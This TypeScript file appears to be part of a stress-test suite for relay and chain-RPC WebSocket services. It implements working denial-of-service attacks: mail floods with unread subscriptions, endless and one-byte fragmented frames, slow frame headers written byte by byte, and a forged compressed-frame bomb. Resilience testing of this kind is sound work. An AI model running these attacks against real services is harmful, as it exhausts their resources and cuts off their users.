// Attacks on sockets of relay and chain RPC: nothing is read, messages do not end.
import type { WebSocket } from 'ws'
import { createIdentity, randomTopic } from '../../support/relay-client.js'
import type { Attack, Tools } from './attack.js'

const MESSAGES = 100
const MESSAGE_BYTES = 256 * 1024
/** A client may store 4 MiB. */
const PUBLISHERS = 8
/** Sockets of one client. */
const SIBLINGS = 32
/** Sockets of chain RPC of one address. */
const RPC_SOCKETS = 20
/** The services take so many fragments of one message. */
const FRAGMENTS = 32

let lastId = 0
const text = (method: string, params: unknown) => JSON.stringify({ jsonrpc: '2.0', id: (lastId += 1), method, params })

/** Resolves with the answer. */
const ask = (socket: WebSocket, method: string, params: unknown) =>
  new Promise<unknown>((resolve) => {
    socket.once('message', resolve)
    socket.once('close', resolve)
    socket.send(text(method, params))
  })

/** 26 MB of mail wait on a topic. */
async function fill({ relay, count, addresses }: Tools, topic: string): Promise<void> {
  const message = 'x'.repeat(MESSAGE_BYTES - 100)
  await Promise.all(
    Array.from({ length: PUBLISHERS }, async (_, at) => {
      const socket = await relay(addresses[at % addresses.length] ?? '')
      for (let index = at; socket && index < MESSAGES; index += PUBLISHERS) {
        await ask(socket, 'irn_publish', { topic, message: `${index} ${message}`, ttl: 3600, tag: 1108 })
        count('mail')
      }
      socket?.terminate()
    }),
  )
}

/** Sockets that subscribe to a topic full of mail, or fetch it again and again, and do not read. */
export const unreadMail: Attack = async (tools) => {
  const topic = randomTopic()
  await fill(tools, topic)
  const identities = new Map<string, ReturnType<typeof createIdentity>>()
  await tools.keep(tools.sockets, async (address, index) => {
    const key = `${address} ${Math.floor(index / SIBLINGS)}`
    const identity = identities.get(key) ?? createIdentity()
    identities.set(key, identity)
    const socket = await tools.relay(address, identity)
    if (!socket) return
    socket.send(text('irn_subscribe', { topic }))
    socket.pause()
    await tools.whileOpen(socket, 1000, () => {
      if (index % 2 === 0) socket.send(text('irn_fetchMessages', { topic }))
    })
  })
}

/** Sockets with subscriptions and calls whose answers have megabytes, unread. */
export const unreadRpc: Attack = (tools) =>
  tools.keep(RPC_SOCKETS, async (address) => {
    const socket = await tools.rpc(address)
    if (!socket) return
    socket.pause()
    socket.send(text('eth_subscribe', ['logs', {}]))
    await tools.whileOpen(socket, 500, () => socket.send(text('eth_getLogs', [{ fromBlock: 'latest' }])))
  })

const onAllSockets = (run: (tools: Tools, socket: WebSocket) => Promise<void>): Attack => {
  return async (tools) => {
    const on = async (opening: Promise<WebSocket | undefined>) => {
      const socket = await opening
      if (socket) await run(tools, socket)
    }
    await Promise.all([
      tools.keep(tools.sockets, (address) => on(tools.relay(address))),
      tools.keep(RPC_SOCKETS, (address) => on(tools.rpc(address))),
    ])
  }
}

/** Messages in fragments of one byte, with pings and pongs between, that do not end. */
export const tinyFragments = onAllSockets(async ({ whileOpen }, socket) => {
  let sent = 0
  await whileOpen(socket, 50, () => {
    for (let at = 0; at < 4 && sent < FRAGMENTS; at += 1, sent += 1) socket.send('x', { fin: false, compress: false })
    socket.ping('x'.repeat(100))
    socket.pong('x'.repeat(100))
  })
})

/** The same with as many fragments as the connection takes. */
export const endlessFragments = onAllSockets(async ({ whileOpen }, socket) => {
  await whileOpen(socket, 5, () => {
    for (let at = 0; at < 100; at += 1) socket.send('x', { fin: false, compress: false })
    socket.pong()
  })
})

/** Messages just below the limit in fragments of 30 kB, without the last. */
export const largeFragments = onAllSockets(async ({ whileOpen }, socket) => {
  const part = Buffer.alloc(30 * 1024, 'x')
  let sent = 0
  await whileOpen(socket, 20, () => {
    if (sent < FRAGMENTS) socket.send(part, { fin: false, binary: false, compress: false })
    sent += 1
  })
})

/** One frame of a megabyte in pieces of some bytes, and frames whose header alone arrives byte by byte. */
export const slowFrames = onAllSockets(async ({ whileOpen }, socket) => {
  // Below `ws`: what it sends has whole headers. Text, masked, a length of eight bytes: 1 MiB, a mask of zeros.
  const raw = Reflect.get(socket, '_socket') as NodeJS.WritableStream
  const header = Buffer.from([0x81, 0xff, 0, 0, 0, 0, 0, 0x10, 0, 0, 0, 0, 0, 0])
  const isSlow = Math.random() < 0.5
  let at = 0
  if (!isSlow) raw.write(header)
  await whileOpen(socket, isSlow ? 1000 : 30, () => {
    raw.write(isSlow ? header.subarray(at, at + 1) : Buffer.alloc(64))
    at += 1
  })
})

/** Frames that claim to be compressed: an offer that is not taken, then a bomb. */
export const compressedFrames = onAllSockets(async ({ whileOpen, count }, socket) => {
  if (socket.extensions !== '') count('compression negotiated')
  const raw = Reflect.get(socket, '_socket') as NodeJS.WritableStream
  raw.write(Buffer.concat([Buffer.from([0xc1, 0xfe, 0x40, 0, 0, 0, 0, 0]), Buffer.alloc(0x4000)]))
  await whileOpen(socket, 1000, () => undefined)
})
